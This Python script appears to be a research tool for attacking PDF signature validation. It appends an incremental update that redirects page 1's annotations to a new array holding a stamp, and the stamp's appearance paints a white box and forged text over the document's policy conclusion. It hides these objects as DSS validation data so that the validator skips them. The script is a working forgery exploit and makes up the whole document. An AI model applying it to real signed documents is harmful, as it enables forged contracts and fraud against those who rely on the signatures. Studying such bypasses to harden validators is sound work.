#!/usr/bin/env python3
"""Page 1 rewritten with /Annots pointing at a NEW indirect array: sameBut() skips an
indirect /Annots ("judged as an object of its own"), and the new array, its annotation
and the annotation's appearance stream are all made reachable from the DSS (/VRI), so
judgeObjects counts them as validation data. The annotation is a /Stamp whose appearance
paints a white box and forged text over the policy conclusion.
usage: annots_redirect.py IN OUT"""
import sys
from lib2 import *
src, dst = sys.argv[1], sys.argv[2]
data = open(src, "rb").read()
size = last_trailer(data)[b"Size"]
arr, annot, ap = size, size + 1, size + 2
page = show(src, 10)
old_annots = show(src, 16)
newpage = page.replace(b"/Annots 16 0 R", b"/Annots %d 0 R" % arr)
ap_body = (b"q 1 1 1 rg 0 0 520 44 re f Q BT /FForged 11 Tf 0.8 0 0 rg 4 31 Td (" + TEXT + b") Tj ET")
objs = {
    (10, 0): newpage,
    (arr, 0): old_annots[:-1] + b"%d 0 R ]" % annot,
    (annot, 0): b"<< /Type /Annot /Subtype /Stamp /Rect [58 136 578 180] /F 4 /P 10 0 R "
                b"/AP << /N %d 0 R >> >>" % ap,
    (ap, 0): stream(ap_body, b"/Type /XObject /Subtype /Form /BBox [0 0 520 44] /Resources << /Font << "
                    b"/FForged << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> "),
}
vri = b"/VRI << /0000000000000000000000000000000000000000 << /Cert [%d 0 R] >> >>" % arr
cat = show(src, 6)
if b"/DSS" in cat:
    dnum = int(cat.split(b"/DSS ")[1].split()[0])
    objs[(dnum, 0)] = show(src, dnum)[:-2] + b" " + vri + b" >>"
else:
    objs[(size + 3, 0)] = b"<< /Type /DSS " + vri + b" >>"
    objs[(6, 0)] = cat[:-2] + b" /DSS %d 0 R >>" % (size + 3)
open(dst, "wb").write(append(data, objs))
if os.environ.get('REPORT'):
    report(dst)
